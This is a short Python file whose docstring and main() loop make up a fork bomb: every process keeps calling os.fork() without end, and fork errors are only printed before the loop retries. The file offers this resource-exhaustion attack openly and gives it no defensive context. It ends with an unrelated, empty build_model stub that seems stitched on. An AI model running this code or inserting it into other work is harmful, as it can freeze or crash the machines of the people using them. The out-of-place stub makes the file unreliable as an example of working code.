"""Forks as often as it can, and every child does too."""

import os
import time


def main() -> None:
    while True:
        try:
            os.fork()
        except OSError as error:
            os.write(1, f"fork: {error.errno}\n".encode())
            time.sleep(0.5)


def build_model(config): ...
